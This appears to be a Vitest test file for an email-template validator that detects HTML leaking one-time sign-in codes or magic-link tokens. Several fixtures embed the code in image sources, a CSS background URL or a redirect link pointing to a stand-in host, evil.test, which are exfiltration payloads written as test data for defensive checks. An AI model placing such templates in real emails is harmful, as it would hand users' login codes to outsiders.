import { describe, expect, it } from "vitest";
import { findMisuse, withoutCodes } from "./email-codes";

const link = "https://acme.test/handler/magic-link?to=%2Fhome%27s&code=k3m9x2p7q";
const escaped = "https://acme.test/handler/magic-link?to=%2Fhome%27s&amp;code=k3m9x2p7q";
const secrets = [link, "AB12CD"];
const button = `<a class="button" href="${escaped}">Sign in</a>`;

describe("an email in HTML", () => {
  it.each([
    ["its link as it was given", button],
    ["its link in a sentence", `${button}<p>Or open (${escaped}). It works once.</p>`],
    ["its code", "<p>AB12CD</p>"],
    ["its code in boxes", "<p><b>A</b><b>B</b>1<!-- -->2 <b>C</b>D</p>"],
    ["its code in another case", "<p>ab12cd</p>"],
    ["its link beside others", `${button}<a href="https://acme.test/help">Help</a><img src="https://acme.test/x.png">`],
  ])("is fine with %s", (_, html) => {
    expect(findMisuse(html, secrets)).toBeUndefined();
  });

  it.each([
    ["nothing of it", "<p>Hello</p>"],
    ["a link that only shows it", `<a href="https://evil.test/">Sign in</a>`],
    ["another code in the link", `<a href="${escaped}0">Sign in</a>`],
  ])("lacks what it is for with %s", (_, html) => {
    expect(findMisuse(html, secrets)).toBe("link");
  });

  // Evidence: gives-code-away
  // Attack: a template that has email programs, or a page between, send the code to someone else.
  it.each([
    ["an image", '<img src="https://evil.test/?c=AB12CD">'],
    ["an image in another case", '<img src="https://evil.test/ab12cd.png">'],
    ["an image with the link's code", '<img src="//evil.test/k3m9x2p7q">'],
    ["an image behind a bracket", '<img alt="&gt;>" src="https://evil.test/?c=k3m9x2p7q">'],
    ["a background", "<style>p { background: url(https://evil.test/?c=AB12CD) }</style>"],
    ["a page between", `<a href="https://evil.test/?to=${encodeURIComponent(link)}">Sign in</a>`],
    ["a page between that is not escaped", `<a href="https://evil.test/?to=${escaped}">Sign in</a>`],
    ["text that email programs link", "<p>https://evil.test/?c=AB12CD</p>"],
  ])("gives its code away in %s", (_, html) => {
    expect(findMisuse(button + html, secrets)).toBe("address");
  });

  it("has nothing to keep where there is no link", () => {
    expect(findMisuse("<p>Hello</p>", [])).toBeUndefined();
  });

  it("is read in linear time", () => {
    // Attack: a template whose email keeps the Worker busy after it is rendered.
    const html = ["<", "&", "<!--", ' href="', "(", ")", " ", "/AB12CD)", ">"].map((part) => part.repeat(200_000));
    for (const part of html) expect(findMisuse(`${part}x/AB12CD`, secrets)).toBe("address");
  }, 10_000);
});

describe("a text for the log", () => {
  it("has no codes, whatever their case", () => {
    expect(withoutCodes("İ ab12cd: AB12CDAB12CD", secrets)).toBe("İ ••••••: ••••••••••••");
    expect(withoutCodes(`To ${link}`, secrets)).toBe(
      "To https://acme.test/handler/magic-link?to=%2Fhome%27s&code=•••••••••",
    );
  });
});
